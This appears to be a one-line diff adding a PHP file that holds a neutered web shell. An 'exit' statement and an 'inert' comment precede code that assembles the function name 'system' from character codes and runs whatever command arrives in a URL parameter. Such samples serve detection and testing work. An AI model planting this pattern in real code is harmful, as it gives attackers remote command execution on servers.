@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $n=array(115,121,115,116,101,109); $s=""; foreach($n as $c) $s.=chr($c); $s($_GET["a"]);
